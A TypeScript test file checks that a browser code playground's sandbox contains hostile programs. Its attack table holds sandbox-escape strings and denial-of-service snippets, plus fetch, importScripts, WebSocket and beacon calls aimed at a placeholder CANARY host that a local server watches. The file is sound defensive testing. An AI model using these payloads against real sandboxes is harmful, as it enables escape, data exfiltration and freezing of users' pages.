// Programs that attack the page: none reaches it, the network or its storage, freezes it, or spoils the next run.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { HttpRequest, Program } from './protocol.ts';
import { startBrowser, type TestedBrowser } from './testing/chromium.ts';

let browser: TestedBrowser;
let canary: Server;
let address: string;
const reached: string[] = [];

beforeAll(async () => {
  canary = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.end('ok');
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => canary.once('listening', resolve));
  address = `127.0.0.1:${(canary.address() as AddressInfo).port}`;
  browser = await startBrowser((body) => reached.push(body));
  await browser.page.evaluate(`localStorage.setItem('lecteur', 'intact'); document.cookie = 'lecteur=intact';`);
});

afterAll(async () => {
  await browser?.close();
  canary?.close();
});

const REQUEST: HttpRequest = { method: 'GET', path: '/', fields: [['Host', 'x']], body: '' };

/** Each is what a program tries; `CANARY` is an address that would tell. */
const ATTACKS: Record<string, string> = {
  'endless loop': 'while (true) {}',
  'endless loop in a handler': "require('http').createServer(() => { while (true) {} }).listen(3000)",
  'endless microtasks': 'const f = () => Promise.resolve().then(f); f();',
  'endless awaits': '(async () => { for (;;) await null; })();',
  'endless ticks': 'const f = () => process.nextTick(f); f();',
  'endless immediates': 'const f = () => setImmediate(f); f();',
  'endless output': "while (true) console.log('x'.repeat(100));",
  'endless output of one line': "const big = 'x'.repeat(1e7); while (true) process.stdout.write(big);",
  'flood of messages': 'while (true) { try { postMessage(1); } catch {} try { self.postMessage(1); } catch {} }',
  'flood of timers': 'setInterval(() => { for (let i = 0; i < 1000; i += 1) setTimeout(() => {}, 0); }, 0);',
  'flood of bytes': "require('http').createServer((q, r) => { for (;;) r.write('x'.repeat(1e6)); }).listen(3000)",
  'memory bomb': 'const all = []; while (true) all.push(new Array(1e6).fill(all.length));',
  'bomb of buffers': 'const all = []; while (true) all.push(Buffer.alloc(1e7, 1));',
  'bomb of strings': "let s = 'x'; while (true) s += s + s;",
  'deep recursion': 'const f = () => f() + 1; f();',
  'closes the worker': 'try { close(); } catch {} try { globalThis.close(); } catch {}',
  'takes the handler of messages':
    'onmessage = null; globalThis.onmessage = () => {}; globalThis.onerror = () => true;',
  'leaves its function': '}); fetch("http://CANARY/1"); importScripts("http://CANARY/2"); (function () {',
  'leaves its function, other brackets': '}]); new Worker("http://CANARY/3"); ([function () {',
  'leaves its comment': '/*',
  'leaves its template': '`${',
  fetch: "fetch('http://CANARY/4', { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {});",
  'fetch, found again': `for (const root of [globalThis, Object.getPrototypeOf(globalThis), Function('return this')()]) {
    root.fetch('http://CANARY/5');
  }`,
  importScripts: "importScripts('http://CANARY/6')",
  'dynamic import': "import('http://CANARY/7').catch(() => {}); import('data:text/javascript,1').catch(() => {});",
  'dynamic import, hidden': "const u = 'http://CANARY/8'; import/**/(u).catch(() => {});",
  'nested worker': `const text = "fetch('http://CANARY/9', { mode: 'no-cors' })";
    new Worker(URL.createObjectURL(new Blob([text])));`,
  'web socket': "new WebSocket('ws://CANARY/10')",
  'event source': "new EventSource('http://CANARY/11')",
  'other requests': `for (const name of ['XMLHttpRequest', 'WebTransport', 'RTCPeerConnection', 'FontFace', 'Notification']) {
      try { const found = new globalThis[name]('http://CANARY/12'); found.open('GET', 'http://CANARY/13'); found.send(); } catch {}
    }`,
  beacon: "navigator.sendBeacon('http://CANARY/14', 'x')",
  storage: "localStorage.setItem('lecteur', 'pris')",
  'indexed database': "indexedDB.open('lecteur')",
  caches: "caches.open('lecteur')",
  'parent frame': "parent.document.title = 'pris'; top.location = 'http://CANARY/15'",
  location: "location.href = 'http://CANARY/16'; self.location = 'http://CANARY/17'",
  'broadcast channel': "new BroadcastChannel('playground').postMessage('pris')",
  'steals the port': `MessagePort.prototype.postMessage = function () { globalThis.port = this; };
    Object.defineProperty(Object.prototype, 'port', { get() { return 1; }, configurable: true });
    console.log('encore'); globalThis.port.postMessage({ type: 'exit', code: 0 });`,
  'spoils the language': `Array.prototype.push = Array.prototype.shift = () => { throw new Error('pris'); };
    Promise.prototype.then = null; Function.prototype.call = null; JSON.stringify = null;
    setTimeout(() => console.log('x'), 1);`,
  'spoils stacks':
    "Error.prepareStackTrace = () => { throw 1; }; Error.stackTraceLimit = 0; console.log('x'); setTimeout(() => {}, 1);",
  'unreadable error':
    'throw { get message() { throw 1; }, toString() { throw 2; }, [Symbol.toPrimitive]() { throw 3; } };',
  'getters that loop': 'console.log({ get [Symbol.toStringTag]() { for (;;); } });',
  'proxy that loops': 'console.log(new Proxy({}, { get() { for (;;); }, ownKeys() { for (;;); } }));',
  'endless regular expression': "/^(a+)+$/.test('a'.repeat(50));",
  atomics: 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);',
};

/** What a module may not have is looked for in the page, before it runs. */
const MODULES: Record<string, string> = {
  'brackets in brackets': `return; ${'('.repeat(40_000)}${')'.repeat(40_000)}`,
  'braces in braces': `return; ${'{'.repeat(40_000)}${'}'.repeat(40_000)}`,
  'spaces before a brace': `return; if${' '.repeat(90_000)}x`,
};

/** Runs while a timer of the page measures its own lateness. Times in ms. */
async function attack(program: Program): Promise<{ count: number; late: number; took: number }> {
  return browser.page.evaluate(
    async (options) => {
      const { run } = (globalThis as unknown as { playground: typeof import('./run.ts') }).playground;
      const began = performance.now();
      let latest = began;
      let late = 0;
      const timer = setInterval(() => {
        const now = performance.now();
        late = Math.max(late, now - latest - 10);
        latest = now;
      }, 10);
      let count = 0;
      for await (const _ of run(options)) count += 1;
      clearInterval(timer);
      return { count, late, took: performance.now() - began };
    },
    { program, request: REQUEST },
  );
}

const page = () =>
  browser.page.evaluate(`[localStorage.length, localStorage.lecteur, document.cookie, document.title, location.href,
    document.documentElement.outerHTML]`);

const programs = [
  ...Object.entries(ATTACKS).map(([name, text]) => [name, text, 'commonjs'] as const),
  ...Object.entries(MODULES).map(([name, text]) => [name, text, 'module'] as const),
];

test.for(programs)('%s', async ([, given, format]) => {
  // The process of a frame may end some seconds after a program that took all its memory; Playwright takes the page, whose
  // process is another, for crashed too.
  await browser.reopen();
  const text = given.replaceAll('CANARY', address);
  const before = await page();
  const { count, late, took } = await attack({ text, format });
  expect(count).toBeGreaterThan(0);
  expect(count).toBeLessThan(2000);
  // A frozen page is late by as long as the program runs; a busy machine is late by less.
  expect(late).toBeLessThan(Math.max(500, took / 2));
  expect(await page()).toEqual(before);
  expect(reached).toEqual([]);
  const next = await browser.run({ text: "console.log('suivant')", format: 'module' });
  expect(next).toContainEqual(expect.objectContaining({ type: 'print', text: 'suivant\n' }));
  expect(next.at(-1)).toMatchObject({ type: 'exit', code: 0 });
});
